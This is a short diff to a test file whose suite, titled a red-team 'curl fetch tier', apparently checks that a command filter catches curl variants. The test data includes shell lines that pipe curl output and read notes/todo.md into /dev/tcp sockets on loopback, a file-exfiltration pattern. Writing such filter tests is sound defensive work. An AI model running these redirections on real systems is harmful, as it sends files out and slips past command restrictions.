@@ -564,7 +564,7 @@ describe('uncarded red team 5: the curl fetch tier', () => {
       `curl -fsSL https://example.com/ | head -c 10 > /dev/tcp/127.0.0.1/${String(loopback.port)}`,
       `curl -fsSL https://example.com/ | cat notes/todo.md 1<>/dev/tcp/127.0.0.1/${String(loopback.port)}`,
       `curl -fsSL https://example.com/ | head -n 5 notes/todo.md 3<>/dev/tcp/127.0.0.1/${String(loopback.port)} >&3`,
-      'curl -fsSLO https://example.com/x.json',
+      'curl -fsSLO https://example.com/',
       'curl -fsSLOJ https://example.com/todo.md',
       'curl -fsSLk https://example.com/',
       'curl -fsSLq https://example.com/',
